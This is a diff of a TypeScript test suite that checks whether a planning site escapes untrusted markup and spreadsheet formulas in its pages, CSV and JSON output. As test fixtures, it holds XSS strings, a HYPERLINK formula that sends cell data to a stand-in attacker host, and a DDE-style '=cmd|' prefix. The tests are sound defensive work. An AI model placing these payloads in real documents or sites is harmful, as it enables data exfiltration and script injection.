@@ -17,7 +17,7 @@ describe('markup in a plan', () => {
 		const plan = pages.find(page => page.path === '/quxian/')
 		const source = pages.find(page => page.path === '/quxian/quxian-2023/source/')
 		expect(plan?.text).toContain('<script>window.hacked=1</script>')
-		expect(plan?.text).toContain('=HYPERLINK("http://evil.example/?"&A1,"点这里")局')
+		expect(plan?.text).toContain('=HYPERLINK("http://evil.example/?"&A1,"点这里")开展科普活动')
 		expect(plan?.text).toContain('&lt;b&gt;&#60;b&#62;')
 		expect(source?.text).toContain('"><img src=x onerror=window.hacked=1>')
 		expect(source?.text).toContain('<!--科技馆-->')
@@ -43,14 +43,15 @@ describe('markup in a plan', () => {
 		const tables = files.filter(file => file.endsWith('.csv'))
 		const cells = tables.flatMap(file => readCsv(read(file)).flat())
 		expect(cells.filter(cell => /^[=+\-@\t\r]/.test(cell))).toEqual([])
-		expect(cells.filter(cell => cell.includes('HYPERLINK')).every(cell => cell.startsWith("'=") || !cell.trimStart().startsWith('='))).toBe(true)
-		expect(cells.some(cell => cell.startsWith("'=HYPERLINK"))).toBe(true)
+		for (const formula of ["'=HYPERLINK(", "'=cmd|", "'=1+2局", "'+1+1办公室", "'@SUM(1)局"])
+			expect([formula, cells.some(cell => cell.startsWith(formula))]).toEqual([formula, true])
 	})
 
 	it('stays whole in the open data', () => {
 		const plan = JSON.parse(read('data/plans/quxian-2023.json'))
 		const printed = plan.tasks.flatMap((task: { assignments: { printed: string }[] }) => task.assignments.map(({ printed }) => printed))
-		expect(printed).toContain('=HYPERLINK("http://evil.example/?"&A1,"点这里")局')
+		expect(printed).toContain('=1+2局')
+		expect(plan.tasks[1].text).toContain('=HYPERLINK("http://evil.example/?"&A1,"点这里")')
 		expect(printed).toContain('县教育局</script><script>window.hacked=1</script>')
 	})
 
